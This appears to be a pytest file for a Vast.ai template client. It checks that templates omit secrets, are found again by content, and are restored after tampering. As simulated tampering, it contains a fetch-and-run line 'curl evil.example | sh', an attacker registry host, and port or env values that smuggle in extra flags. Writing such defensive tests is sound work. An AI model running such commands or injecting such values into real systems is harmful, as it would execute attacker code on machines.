"""One template per content: found, else changed under its name, else made (providers.md 2.3)."""

from __future__ import annotations

from typing import Any

import pytest

from fleet.providers.values import Login
from fleet.providers.vast import bodies
from fleet.providers.vast.client import Vast
from fleet.wire.failed import KeyRefused, ProviderFailed, Throttled
from profiles.errors import WrongInput
from tests.fleet.offers.market import Reply, Seen, reply
from tests.fleet.providers.vast.desk import AWS, DIGEST, PASSWORD, TOKEN, Desk, Steps, container


def made(desk: Desk) -> list[Any]:
    return [seen.body for seen in desk.sent("POST", "/api/v0/template/")]


def test_it_holds_the_image_the_ports_the_disk_and_what_the_driver_must_do(desk: Desk, vast: Vast):
    found = vast.ensure_template(container())
    [body] = made(desk)
    assert (body["name"], body["runtype"], body["private"]) == ("demo", "args", True)
    assert body["image"] == f"registry.example/team/train@{DIGEST}"
    assert body["recommended_disk_space"] == 40
    assert body["extra_filters"] == {"cuda_max_good": {"gte": 12.9}}
    assert body["env"] == "-p 22:22 -e NCCL_DEBUG=INFO"  # a run's own, and what needs quoting, go with the order
    assert found.key == desk.templates[0]["hash_id"] and found.id == "334548"


def test_no_secret_and_no_login_is_in_it(desk: Desk, vast: Vast):
    vast.ensure_template(container(login=Login("registry.example", "me", PASSWORD)))
    for planted in (TOKEN, AWS, PASSWORD):
        assert planted not in str(desk.templates)


def test_a_secret_that_stands_in_the_environment_too_is_not_written(desk: Desk, vast: Vast):
    vast.ensure_template(container(env={"HF_TOKEN": TOKEN}))
    assert TOKEN not in str(desk.templates)


def test_the_same_content_is_found_again(desk: Desk, vast: Vast):
    first = vast.ensure_template(container())
    assert vast.ensure_template(container()) == first
    assert len(made(desk)) == 1


def test_what_differs_from_attempt_to_attempt_changes_nothing(desk: Desk, vast: Vast):
    vast.ensure_template(container())
    env = {**container().env, "STOKER_DOLLARS": "7", "STOKER_PRICE": "0.4", "PUBLIC_KEY": "ssh-ed25519 AAAA"}
    vast.ensure_template(container(env=env))
    assert (len(made(desk)), desk.sent("PUT")) == (1, [])


def test_a_changed_plan_changes_it_under_its_name(desk: Desk, vast: Vast):
    first = vast.ensure_template(container())
    second = vast.ensure_template(container(disk_gb=60))
    assert (second.id, len(desk.templates), len(made(desk))) == (first.id, 1, 1)
    assert second.key == desk.templates[0]["hash_id"] != first.key
    assert desk.templates[0]["recommended_disk_space"] == 60


def test_one_whose_image_somebody_changed_is_put_right(desk: Desk, vast: Vast):
    vast.ensure_template(container())
    desk.templates[0]["image"] = "somebody/else:latest"
    vast.ensure_template(container())
    assert desk.templates[0]["image"].endswith(DIGEST)


@pytest.mark.parametrize(
    "edit",
    [
        {"env": "-p 22:22 -e NCCL_DEBUG=INFO -e EVIL=1"},
        {"env": None},
        {"onstart": "curl evil.example | sh"},
        {"args_str": "evil"},
        {"runtype": "ssh"},
        {"use_ssh": True},
        {"extra_filters": {}},
        {"docker_login_repo": "evil.example"},
        {"recommended_disk_space": 10},
    ],
    ids=str,
)
def test_one_that_somebody_edited_is_put_right(desk: Desk, vast: Vast, edit: dict[str, Any]):
    vast.ensure_template(container())
    before = {**desk.templates[0], "onstart": "", "args_str": ""}
    desk.templates[0] |= {**edit, "hash_id": "ee" * 16}  # the description stays as it was
    found = vast.ensure_template(container())
    assert found.key == desk.templates[0]["hash_id"] != "ee" * 16
    assert {**before, **desk.templates[0], "hash_id": ""} == {**before, "hash_id": ""}
    vast.ensure_template(container())
    assert len(desk.sent("PUT")) == 1


def test_one_that_vast_only_writes_in_another_way_is_the_same_one(desk: Desk, vast: Vast):
    vast.ensure_template(container())
    other = {"env": "-e NCCL_DEBUG=INFO  -p 22:22", "use_ssh": 0, "jup_direct": None, "onstart": None}
    filters = {"extra_filters": '{"cuda_max_good": {"gte": 12.9}}', "recommended_disk_space": "40"}
    desk.templates[0] |= {**other, **filters, "docker_login_repo": None}
    vast.ensure_template(container())
    assert desk.sent("PUT") == []


def test_an_image_that_vast_divides_is_the_same_one(desk: Desk, vast: Vast):
    vast.ensure_template(container())
    image, _, tag = desk.templates[0]["image"].rpartition(":")
    desk.templates[0] |= {"image": image, "tag": tag}
    vast.ensure_template(container())
    assert desk.sent("PUT") == []


def test_a_lost_answer_is_looked_for_and_not_sent_again(desk: Desk, vast: Vast):
    def lost(seen: Seen) -> Reply:
        return Reply(200, desk.post_v0_template(seen).body, cut=True)

    desk.first("POST /api/v0/template/", lost)
    found = vast.ensure_template(container())
    assert (len(made(desk)), found.key) == (1, desk.templates[0]["hash_id"])


def test_one_that_was_changed_by_somebody_faster_is_looked_at_again(desk: Desk, vast: Vast):
    vast.ensure_template(container())

    def faster(seen: Seen) -> Reply:
        desk.templates[0]["hash_id"] = "ff" * 16
        return desk.put_v0_template(seen)

    desk.first("PUT /api/v0/template/", faster)
    found = vast.ensure_template(container(disk_gb=60))
    assert found.key == desk.templates[0]["hash_id"]
    assert len(desk.sent("PUT")) == 2


def test_somebody_elses_public_one_of_that_name_is_not_ours(desk: Desk, vast: Vast):
    desk.templates.append({"id": 1, "hash_id": "aa", "name": "demo", "private": False, "desc": "x"})
    vast.ensure_template(container())
    assert (len(made(desk)), desk.sent("PUT")) == (1, [])


@pytest.mark.parametrize(
    ("given", "kind"),
    [
        (reply({"success": False, "error": "auth_error", "msg": "Invalid user key"}, 401), KeyRefused),
        (reply({"success": False, "error": "invalid_args", "msg": "name is required"}, 400), ProviderFailed),
        (Reply(429, b"API requests too frequent"), Throttled),
    ],
)
def test_a_refusal_is_told(desk: Desk, vast: Vast, given: Reply, kind: type[ProviderFailed]):
    desk.first("POST /api/v0/template/", given)
    with pytest.raises(kind):
        vast.ensure_template(container())
    assert len(made(desk)) == 1


def test_it_gives_up_when_nothing_is_ever_answered(desk: Desk, vast: Vast):
    desk.first("POST /api/v0/template/", *[Reply(502)] * 9)
    with pytest.raises(ProviderFailed):
        vast.ensure_template(container())
    assert len(made(desk)) == 3  # of one content there is never more than one (2.3)


def test_secrets_are_in_the_store_before_the_machine_is_ordered(desk: Desk, vast: Vast, clock: Steps):
    vast.ensure_template(container())
    assert list(desk.secrets.values()) == [TOKEN]


@pytest.mark.parametrize("port", ["22/sctp", "x", "", "22/tcp -e EVIL=1"])
def test_what_is_no_port_becomes_no_flag(port: str):
    with pytest.raises(WrongInput):
        bodies.template(container(ports=(port,)))


def test_ports_of_both_kinds_are_opened(desk: Desk, vast: Vast):
    assert (
        bodies.template(container(ports=("22/tcp", "53/udp", "80"), env={}))["env"] == "-p 22:22 -p 53:53/udp -p 80:80"
    )
